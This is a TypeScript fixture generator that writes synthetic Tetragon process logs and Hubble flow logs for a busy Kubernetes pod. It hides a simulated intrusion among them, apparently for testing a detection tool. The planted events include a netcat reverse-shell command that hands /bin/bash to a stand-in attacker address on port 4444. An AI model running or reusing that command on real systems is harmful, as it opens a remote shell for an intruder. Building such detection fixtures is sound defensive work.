/** Captures of one pod that does very much: thousands of processes, a hundred thousand flows, and a break-in among them. */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';

export const LARGE_POD = { namespace: 'jobs', name: 'batch-7d9c5b6f4d-x2x9z' } as const;

const NODE = 'worker-1';
const CLUSTER = 'large';
const POD_IP = '10.244.1.77';
const ATTACKER = '198.51.100.66';
const BEGIN_MS = Date.parse('2026-11-23T06:00:00Z');
const CONTAINER = `containerd://${'5f'.repeat(32)}`;
/** Each connection is seen so often: half from the client, half in reply. */
const FLOWS_PER_CONNECTION = 10;

const when = (ms: number): string => new Date(BEGIN_MS + ms).toISOString().replace('Z', '000000Z');
const execId = (pid: number): string => Buffer.from(`${NODE}:${pid}000:${pid}`).toString('base64');

interface Made {
  readonly exec_id: string;
  readonly pid: number;
  readonly parent: number;
  readonly binary: string;
  readonly arguments: string;
  readonly ms: number;
}

const pod = {
  namespace: LARGE_POD.namespace,
  name: LARGE_POD.name,
  workload: 'batch',
  workload_kind: 'Deployment',
  pod_labels: {},
  container: {
    id: CONTAINER,
    name: 'batch',
    image: { id: 'registry.example/batch@sha256:00', name: 'registry.example/batch:3' },
    start_time: when(0),
    pid: 1,
  },
};

const block = ({ exec_id, pid, parent, binary, arguments: args, ms }: Made) => ({
  exec_id,
  pid,
  uid: 1000,
  cwd: '/srv',
  binary,
  arguments: args,
  flags: 'execve clone',
  start_time: when(ms),
  auid: 4294967295,
  pod,
  docker: CONTAINER.slice(13, 44),
  parent_exec_id: parent === 0 ? '' : execId(parent),
});

const envelope = (ms: number) => ({ node_name: NODE, time: when(ms), cluster_name: CLUSTER });

function flow(uuid: number, ms: number, port: number, to: { ip: string; port: number }, isReply: boolean): string {
  const own = { namespace: LARGE_POD.namespace, pod_name: LARGE_POD.name, identity: 4_711, labels: [] };
  const world = { identity: 2, labels: ['reserved:world'] };
  const [source, destination] = isReply ? [to.ip, POD_IP] : [POD_IP, to.ip];
  const [from, into] = isReply ? [to.port, port] : [port, to.port];
  return JSON.stringify({
    flow: {
      time: when(ms),
      uuid: `large-${uuid}`,
      verdict: 'FORWARDED',
      IP: { source, destination, ipVersion: 'IPv4' },
      l4: {
        TCP: {
          source_port: from,
          destination_port: into,
          flags: uuid % FLOWS_PER_CONNECTION === 0 ? { SYN: true } : { ACK: true },
        },
      },
      source: isReply ? world : own,
      destination: isReply ? own : world,
      Type: 'L3_L4',
      node_name: `${CLUSTER}/${NODE}`,
      traffic_direction: isReply ? 'INGRESS' : 'EGRESS',
      is_reply: isReply,
    },
    node_name: `${CLUSTER}/${NODE}`,
    time: when(ms),
  });
}

/**
 * Writes `tetragon.jsonl.gz` and `hubble.jsonl.gz` into `folder`: `processes` processes in one pod, and `flows` flows of their
 * connections, of which the shell that somebody opened is one.
 */
export function writeLargeCase(folder: string, processes: number, flows: number): string[] {
  const made: Made[] = [];
  const add = (parent: number, binary: string, args: string): Made => {
    const pid = made.length + 100;
    const each = { exec_id: execId(pid), pid, parent, binary, arguments: args, ms: made.length * 10 };
    made.push(each);
    return each;
  };
  const root = add(0, '/usr/bin/node', '/srv/batch.js');
  const shell = add(root.pid, '/bin/sh', `-c "nc.traditional ${ATTACKER} 4444 -e /bin/bash"`);
  const netcat = add(shell.pid, '/usr/bin/nc.traditional', `${ATTACKER} 4444 -e /bin/bash`);
  for (let job = 0; made.length < processes; job++) {
    const word = String.fromCharCode(97 + (job % 26), 97 + (Math.floor(job / 26) % 26));
    const worker = add(root.pid, '/bin/bash', `/srv/jobs/${word}.sh`);
    for (let n = 0; n < 20 && made.length < processes; n++) {
      if (n % 2 === 0) add(worker.pid, '/usr/bin/curl', `-s https://api.example/${word}/${n}`);
      else add(worker.pid, '/usr/bin/jq', `.items.${word}.${String.fromCharCode(97 + n)}`);
    }
  }
  const tetragon = made.map(each => JSON.stringify({ process_exec: { process: block(each) }, ...envelope(each.ms) }));
  const hubble: string[] = [];
  const connect = (by: Made, port: number, to: { ip: string; port: number }, ms: number): void => {
    const socket = {
      family: 'AF_INET',
      type: 'SOCK_STREAM',
      protocol: 'IPPROTO_TCP',
      saddr: POD_IP,
      daddr: to.ip,
      sport: port,
      dport: to.port,
    };
    const kprobe = {
      process: block(by),
      function_name: 'tcp_connect',
      args: [{ sock_arg: socket }],
      action: 'KPROBE_ACTION_POST',
      policy_name: 'connect',
    };
    tetragon.push(JSON.stringify({ process_kprobe: kprobe, ...envelope(ms) }));
    for (let n = 0; n < FLOWS_PER_CONNECTION; n++) hubble.push(flow(hubble.length, ms + 1 + n, port, to, n % 2 === 1));
  };
  const after = made.length * 10;
  connect(netcat, 20_000, { ip: ATTACKER, port: 4_444 }, after);
  const callers = made.filter(({ binary }) => binary !== '/usr/bin/jq' && binary !== '/bin/sh');
  for (let n = 1; hubble.length < flows; n++) {
    const by = callers[n % callers.length] as Made;
    const to = { ip: `203.0.${n % 97}.${n % 251}`, port: n % 3 === 0 ? 80 : 443 };
    connect(by, 20_000 + (n % 40_000), to, after + n);
  }
  return [['tetragon.jsonl.gz', tetragon] as const, ['hubble.jsonl.gz', hubble] as const].map(([name, lines]) => {
    const file = join(folder, name);
    writeFileSync(file, gzipSync(`${lines.join('\n')}\n`, { level: 1 }));
    return file;
  });
}
